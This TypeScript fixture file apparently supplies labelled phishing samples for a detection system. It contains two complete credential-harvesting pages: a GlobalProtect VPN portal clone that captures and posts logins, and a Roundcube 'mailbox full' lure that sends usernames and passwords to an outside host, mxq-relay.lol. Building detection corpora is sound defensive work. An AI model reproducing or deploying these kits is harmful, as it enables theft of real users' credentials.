import type { Entry } from '../entry.js';
import { doc, jsRoute, jsonRoute, pngRoute, cssRoute } from '../parts/t-kit.js';

// Reported by employees: VPN gateway and webmail lures — dev split.

const gpHost = 'vpn-hartwell-eng.com';
const rcHost = 'webmail.mailbox-quota-service.com';

export const entries: Entry[] = [
  {
    id: 't-ph-globalprotect-lookalike',
    label: 'phishing',
    kind: 'vpn-kit',
    url: `https://${gpHost}/global-protect/login.esp`,
    body: `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><title>GlobalProtect Portal</title>
<link rel="stylesheet" type="text/css" href="/global-protect/portal/css/login.css">
</head><body class="login-body">
<div class="login-main"><div class="login-logo"></div><div class="login-title">GlobalProtect Portal</div>
<form name="login" method="POST" action="/global-protect/getconfig.esp" id="lf">
<input type="hidden" name="prot" value="https:"><input type="hidden" name="server" value="vpn.hartwell-eng.com"><input type="hidden" name="inputStr" value=""><input type="hidden" name="action" value="getsoftware">
<div class="form-row"><label for="user">Name</label><input type="text" name="user" id="user" autocomplete="off"></div>
<div class="form-row"><label for="passwd">Password</label><input type="password" name="passwd" id="passwd" autocomplete="off"></div>
<div class="form-row"><input type="submit" value="LOG IN" class="login-btn"></div>
<div class="msg" id="msg">Due to a security certificate update, all remote users must re-authenticate to download the updated GlobalProtect configuration before <b>Monday 06:00</b>.</div>
</form></div>
<script src="/global-protect/portal/js/lg.js"></script>
</body></html>`,
    routes: {
      [`${gpHost}/global-protect/portal/css/login.css`]: cssRoute(`.login-body{margin:0;background:#2e3138;font-family:Arial,Helvetica,sans-serif;color:#fff}.login-main{width:360px;margin:120px auto;background:#3a3e46;padding:30px;border-radius:4px}.login-logo{height:48px;background:url(/global-protect/portal/images/logo-pan.png) no-repeat center;margin-bottom:10px}.login-title{text-align:center;font-size:20px;margin-bottom:20px}.form-row{margin:12px 0}.form-row label{display:block;font-size:13px;margin-bottom:4px}.form-row input[type=text],.form-row input[type=password]{width:100%;padding:8px;border:1px solid #666;background:#fff;box-sizing:border-box}.login-btn{width:100%;padding:10px;background:#fa582d;border:0;color:#fff;font-weight:700;cursor:pointer}.msg{font-size:12px;color:#ddd;margin-top:14px;line-height:1.5}`),
      [`${gpHost}/global-protect/portal/images/logo-pan.png`]: pngRoute(250, 88, 45),
      [`${gpHost}/global-protect/portal/js/lg.js`]: jsRoute(`document.getElementById('lf').addEventListener('submit',function(e){e.preventDefault();var u=document.getElementById('user').value,p=document.getElementById('passwd').value;
fetch('/global-protect/api/rec',{method:'POST',headers:{'content-type':'application/x-www-form-urlencoded'},body:'user='+encodeURIComponent(u)+'&passwd='+encodeURIComponent(p)+'&ip='}).then(function(){document.getElementById('msg').innerHTML='<span style="color:#fa582d">Authentication failed: Invalid username or password</span>';document.getElementById('passwd').value=''});});`),
    },
  },
  {
    id: 't-ph-webmail-quota-roundcube',
    label: 'phishing',
    kind: 'webmail-kit',
    url: `https://${rcHost}/roundcube/?_task=login&_quota=98&_user=s.nakamura%40hartwell-eng.com`,
    body: doc(
      'Roundcube Webmail :: Mailbox storage full',
      `<style>body{margin:0;background:#f4f4f4;font-family:"Roboto","Helvetica Neue",Arial,sans-serif}
#layout{max-width:380px;margin:80px auto;background:#fff;padding:30px;border-radius:4px;box-shadow:0 2px 6px rgba(0,0,0,.1)}
#logo{font-size:26px;font-weight:700;color:#37beff;text-align:center;margin-bottom:16px}
.q{height:14px;background:#eee;border-radius:7px;overflow:hidden;margin:8px 0}.q div{height:100%;width:98%;background:#e53935}
input{width:100%;padding:10px;border:1px solid #c3c3c3;border-radius:3px;margin:6px 0;box-sizing:border-box}
button{width:100%;padding:10px;background:#37beff;color:#fff;border:0;border-radius:3px;font-size:15px;cursor:pointer}</style>`,
      `<div id="layout"><div id="logo">&#9993; Roundcube</div>
<p style="font-size:14px;color:#333"><b id="who"></b><br>Your mailbox has reached <b>98%</b> of its storage quota (1.96 GB of 2 GB). Incoming messages are being held and will be deleted after 24 hours.</p>
<div class="q"><div></div></div>
<p style="font-size:13px;color:#555">Log in to increase your quota free of charge.</p>
<form id="rf"><input name="_user" id="ru" placeholder="Username"><input name="_pass" type="password" placeholder="Password"><button>Login &amp; Upgrade</button></form>
<p style="font-size:11px;color:#999;text-align:center;margin-top:20px">Roundcube Webmail &middot; Mail administrator</p></div>
<script>
var u=new URLSearchParams(location.search).get('_user')||'';document.getElementById('who').textContent=u;document.getElementById('ru').value=u;
var d=u.split('@')[1];if(d){document.title=d+' :: Webmail';document.getElementById('logo').textContent=d.split('.')[0].toUpperCase()+' Webmail'}
document.getElementById('rf').onsubmit=function(e){e.preventDefault();fetch('https://mxq-relay.lol/rc/save.php',{method:'POST',mode:'no-cors',body:new FormData(this)});
this.innerHTML='<p style="color:#2e7d32">Processing&hellip; your quota will be upgraded within 30 minutes.</p>'};
</script>`,
    ),
  },
];
